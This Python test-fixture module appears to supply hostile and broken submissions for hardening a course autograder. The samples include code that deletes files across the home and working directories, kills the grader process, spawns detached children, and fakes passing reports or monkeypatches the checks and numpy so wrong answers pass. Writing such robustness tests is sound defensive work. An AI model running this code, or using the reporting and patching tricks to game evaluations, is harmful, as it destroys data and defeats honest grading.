"""Submissions that harm the grader by accident or on purpose: `SUBMISSIONS` has the text of each, by its file name.

Each is a program of its own: what it does, a `read_text` that is right, and a `create_dataset`.
"""

READ_TEXT = """
def read_text(path):
    with open(path, encoding="utf-8") as file:
        return file.read()
"""
RIGHT = """
import numpy as np

def create_dataset(sequence, window_size):
    starts = range(len(sequence) - window_size)
    x = [list(sequence[i : i + window_size]) for i in starts]
    y = [list(sequence[i + 1 : i + window_size + 1]) for i in starts]
    return np.array(x, dtype="int32"), np.array(y, dtype="int32")
"""
NOT_SHIFTED = RIGHT.replace("i + 1 : i + window_size + 1", "i : i + window_size")


def when_called(statement, dataset="def create_dataset(sequence, window_size):\n    pass\n"):
    """A `create_dataset` that does something first."""
    return dataset.replace("window_size):\n", f"window_size):\n    {statement}\n")


FAKE_REPORT = """
import contextlib
import json
import os
from pathlib import Path

RESULT = {"event": "result", "name": "create_dataset/shifted_by_one", "status": "passed", "message": "", "score": 100}

def fake_report():
    report = json.dumps(RESULT)
    print(report)
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(number, f"{report}\\n{report}".encode())
    for name in ("results.json", "report.json", "marks.csv", "../results.json", "/autograder/results/results.json"):
        with contextlib.suppress(OSError):
            Path(name).write_text(report)

fake_report()
"""
DELETE_FILES = """
from pathlib import Path

def delete_files():
    for folder in (Path.cwd(), Path.home(), Path(__file__).parent):
        for file in folder.rglob("*"):
            if file.is_file():
                file.unlink()

delete_files()
"""
LEAVE_CHILDREN = """
import os
import time

for number in range(100):
    if os.fork() == 0:
        if number % 2:  # half of them in sessions of their own
            os.setsid()
            if os.fork():
                os._exit(0)
        time.sleep(600)
        os._exit(0)
"""
KILL_THE_GRADER = """
import contextlib
import os
import signal

with contextlib.suppress(OSError):
    os.kill(os.getppid(), signal.SIGKILL)
"""
OVERWRITE_CHECKS = """
import contextlib
from pathlib import Path

from minigpt.classroom import checks
from minigpt.classroom.checks import dataset
from minigpt.classroom.checks.machinery import messages, run

for stage in checks.CHECKS:
    checks.CHECKS[stage] = []
run.run_check = checks.run_check = lambda check, learners: run.Result(check, "passed")
messages.CheckFailed.__init__ = lambda self, *parts: None
dataset.shifted_by_one.__code__ = (lambda create_dataset: None).__code__
for module in (checks, run, messages, dataset):
    with contextlib.suppress(OSError):
        Path(module.__file__).write_text("CHECKS = {}")
"""
PATCH_NUMPY = """
import builtins

import numpy as np
import numpy.testing

def patch():
    np.array_equal = np.allclose = lambda *arguments, **options: True
    for name in dir(numpy.testing):
        if name.startswith("assert_"):
            setattr(numpy.testing, name, lambda *arguments, **options: None)
    builtins.sorted = lambda *arguments, **options: []

patch()
"""
SWALLOW_EVERYTHING = """
def create_dataset(sequence, window_size):
    while True:
        try:
            while True:
                pass
        except:
            pass
"""

SUBMISSIONS = {
    "empty.py": "",
    "not_a_notebook.ipynb": '{"this is": "not a notebook"}',
    "half_written.py": READ_TEXT + "\ndef create_dataset(sequence",
    # Ends the process, or never ends.
    "exits_on_import.py": READ_TEXT + RIGHT + "\nimport os\nos._exit(0)\n",
    "exits_in_function.py": READ_TEXT + "import os\n" + when_called("os._exit(0)"),
    "sys_exit_on_import.py": READ_TEXT + RIGHT + "\nimport sys\nsys.exit(0)\n",
    "sys_exit_in_function.py": READ_TEXT + "import sys\n" + when_called("sys.exit(0)"),
    "kills_itself.py": READ_TEXT + "import os, signal\n" + when_called("os.kill(os.getpid(), signal.SIGKILL)"),
    "loops_on_import.py": READ_TEXT + RIGHT + "\nwhile True:\n    pass\n",
    "swallows_everything.py": READ_TEXT + SWALLOW_EVERYTHING,
    # Takes without end, or leaves something behind.
    "eats_memory.py": READ_TEXT + when_called("blocks = []\n    while True: blocks.append(bytearray(50_000_000))"),
    "prints_forever.py": READ_TEXT + when_called("while True: print('still working', '.' * 1000)"),
    "leaves_children.py": LEAVE_CHILDREN + READ_TEXT + RIGHT,
    "deletes_files.py": DELETE_FILES + READ_TEXT + when_called("delete_files()", RIGHT),
    # Turns against the grader.
    "closes_everything.py": READ_TEXT + "import os\n" + when_called("os.closerange(0, 1024)"),
    "kills_the_grader.py": KILL_THE_GRADER + READ_TEXT + RIGHT,
    "fakes_report.py": FAKE_REPORT + READ_TEXT + when_called("fake_report()", NOT_SHIFTED),
    "overwrites_checks.py": OVERWRITE_CHECKS + READ_TEXT + NOT_SHIFTED,
    "patches_numpy.py": PATCH_NUMPY + READ_TEXT + when_called("patch()", NOT_SHIFTED),
}
